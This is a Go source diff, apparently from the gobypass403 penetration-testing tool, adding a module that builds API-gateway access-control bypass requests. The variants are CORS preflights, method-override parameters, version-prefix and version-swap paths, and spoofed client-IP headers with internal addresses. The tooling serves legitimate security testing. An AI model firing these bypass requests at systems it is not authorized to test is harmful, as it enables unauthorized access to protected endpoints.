@@ -0,0 +1,165 @@
+package payload
+
+import (
+	"encoding/json"
+	"fmt"
+	"regexp"
+	"strings"
+
+	"github.com/slicingmelon/go-rawurlparser"
+	GB403Logger "github.com/slicingmelon/gobypass403/core/utils/logger"
+)
+
+// APIGatewayConfig holds the lists of the api_gateway module, read from api_gateway.json
+type APIGatewayConfig struct {
+	PreflightMethods     []string `json:"preflight_methods"`      // Access-Control-Request-Method values of the OPTIONS preflights
+	MethodOverrideParams []string `json:"method_override_params"` // Query parameters set to GET (?_method=GET)
+	VersionPrefixes      []string `json:"version_prefixes"`       // Segments put in front of the path (/v1/admin), vN ones also swap a version segment
+	GatewayIPHeaders     []string `json:"gateway_ip_headers"`     // Client IP headers sent with GatewayIPs
+	GatewayIPs           []string `json:"gateway_ips"`            // Internal IPs of gateways, load balancers and container networks
+}
+
+// apiVersionSegment matches a version path segment (v1, V2, ...)
+var apiVersionSegment = regexp.MustCompile(`^[vV][0-9]+$`)
+
+// ReadAPIGatewayConfig reads the api_gateway.json file
+func ReadAPIGatewayConfig() (*APIGatewayConfig, error) {
+	content, err := ReadPayloadsFromJSONFile("api_gateway.json")
+	if err != nil {
+		return nil, fmt.Errorf("failed to read api_gateway.json: %w", err)
+	}
+
+	var config APIGatewayConfig
+	if err := json.Unmarshal(content, &config); err != nil {
+		return nil, fmt.Errorf("failed to unmarshal api_gateway.json: %w", err)
+	}
+	return &config, nil
+}
+
+/*
+GenerateAPIGatewayPayloads generates requests targeting API gateways (AWS API Gateway, Kong,
+Apigee, Envoy...), which route and authorize on the method, path prefix and client IP before
+the backend sees the request. The lists are read from api_gateway.json.
+
+For a URL like /admin, it creates:
+ 1. CORS preflights: OPTIONS /admin with Origin set to the target's origin and
+    Access-Control-Request-Method: GET, POST, ... (preflights are often answered or
+    forwarded without authorization)
+ 2. Method override parameters: GET /admin?_method=GET, GET /admin?method=GET, ...
+ 3. Version prefixes: /v1/admin, /v2/admin, /api/v1/admin, ...
+ 4. Version swaps, when the path has a version segment (/api/v2/admin): /api/v1/admin,
+    /api/v3/admin, older versions often lack the newer access checks
+ 5. Gateway IPs: GET /admin with X-Forwarded-For: 10.0.0.1, 172.17.0.1, ...
+
+The original query string is preserved, all payloads keep the api_gateway module label.
+*/
+func (pg *PayloadGenerator) GenerateAPIGatewayPayloads(targetURL string, bypassModule string) []BypassPayload {
+	var allJobs []BypassPayload
+
+	parsedURL, err := rawurlparser.RawURLParse(targetURL)
+	if err != nil {
+		GB403Logger.Error().Msgf("Failed to parse URL: %s", targetURL)
+		return allJobs
+	}
+
+	config, err := ReadAPIGatewayConfig()
+	if err != nil {
+		GB403Logger.Error().Msgf("Failed to read API gateway payloads: %v", err)
+		return allJobs
+	}
+
+	path := parsedURL.Path
+	if path == "" {
+		path = "/"
+	}
+	query := ""
+	if parsedURL.Query != "" {
+		query = "?" + parsedURL.Query
+	}
+	rawURI := path + query
+
+	baseJob := BypassPayload{
+		OriginalURL:  targetURL,
+		Method:       "GET",
+		Scheme:       parsedURL.Scheme,
+		Host:         parsedURL.Host,
+		RawURI:       rawURI,
+		BypassModule: bypassModule,
+	}
+
+	addJob := func(job BypassPayload) {
+		job.PayloadToken = GeneratePayloadToken(job)
+		allJobs = append(allJobs, job)
+	}
+
+	// 1. CORS preflights
+	origin := parsedURL.Scheme + "://" + parsedURL.Host
+	for _, method := range config.PreflightMethods {
+		job := baseJob
+		job.Method = "OPTIONS"
+		job.Headers = []Headers{
+			{Header: "Origin", Value: origin},
+			{Header: "Access-Control-Request-Method", Value: method},
+		}
+		addJob(job)
+	}
+
+	// 2. Method override parameters
+	for _, param := range config.MethodOverrideParams {
+		job := baseJob
+		if query == "" {
+			job.RawURI = path + "?" + param + "=GET"
+		} else {
+			job.RawURI = rawURI + "&" + param + "=GET"
+		}
+		addJob(job)
+	}
+
+	// 3. and 4. Version prefixes and swaps, each path once
+	seen := map[string]struct{}{rawURI: {}}
+	addPath := func(newPath string) {
+		if _, ok := seen[newPath+query]; ok {
+			return
+		}
+		seen[newPath+query] = struct{}{}
+		job := baseJob
+		job.RawURI = newPath + query
+		addJob(job)
+	}
+
+	for _, prefix := range config.VersionPrefixes {
+		prefix = strings.Trim(prefix, "/")
+		if prefix == "" || strings.HasPrefix(path, "/"+prefix+"/") {
+			continue
+		}
+		addPath("/" + prefix + path)
+	}
+
+	segments := strings.Split(path, "/")
+	for i, segment := range segments {
+		if !apiVersionSegment.MatchString(segment) {
+			continue
+		}
+		for _, version := range config.VersionPrefixes {
+			if !apiVersionSegment.MatchString(version) || strings.EqualFold(version, segment) {
+				continue
+			}
+			swapped := make([]string, len(segments))
+			copy(swapped, segments)
+			swapped[i] = version
+			addPath(strings.Join(swapped, "/"))
+		}
+	}
+
+	// 5. Gateway IPs
+	for _, header := range config.GatewayIPHeaders {
+		for _, ip := range config.GatewayIPs {
+			job := baseJob
+			job.Headers = []Headers{{Header: header, Value: ip}}
+			addJob(job)
+		}
+	}
+
+	GB403Logger.Debug().BypassModule(bypassModule).Msgf("Generated %d payloads for %s", len(allJobs), targetURL)
+	return allJobs
+}